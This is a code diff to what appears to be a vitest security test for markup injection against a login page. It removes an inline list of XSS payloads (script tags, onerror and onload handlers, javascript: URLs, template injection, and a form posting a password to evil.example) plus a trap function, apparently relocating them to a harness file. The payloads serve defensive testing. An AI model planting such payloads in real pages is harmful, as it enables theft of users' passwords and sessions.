@@ -3,30 +3,15 @@ import { afterAll, afterEach, beforeAll, test } from 'vitest';
 import { newNonce } from '../clients/typescript/src/index.ts';
 import { expect } from './harness/expect.ts';
 import { hostPage, mountScript } from './harness/host-page.ts';
+import { CORPUS, TRAP } from './harness/markup-corpus.ts';
 import { makePersonWithDevice, makeResource } from './harness/people.ts';
 import { type Stage, setStage } from './harness/stage.ts';
 import { TITLES, widgetOn } from './harness/widget-view.ts';
 
 /**
  * SR-30. The attack: whoever may name a resource or a user, or merely type a login, writes markup there, so that it runs
- * where somebody else types their password. Each of these calls `pwned()` if it runs.
+ * where somebody else types their password.
  */
-const CORPUS = [
-  '<script>pwned()</script>',
-  '</title><script>pwned()</script>',
-  '"><img src=x onerror=pwned()>',
-  "'><svg/onload=pwned()>",
-  '</main></body><iframe srcdoc="<script>parent.pwned()</script>">',
-  '<a href="javascript:pwned()">Continue</a>',
-  '<style>*{display:none}</style>',
-  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
-  '<form action=//evil.example><input name=password></form>',
-  '{{constructor.constructor("pwned()")()}}',
-  `\${pwned()}\`;pwned();//`,
-  '&lt;img src=x onerror=pwned()&gt; &amp; {0}',
-] as const;
-
-const TRAP = `window.ran = []; window.pwned = () => { ran.push(location.href); };`;
 
 let stage: Stage;
 
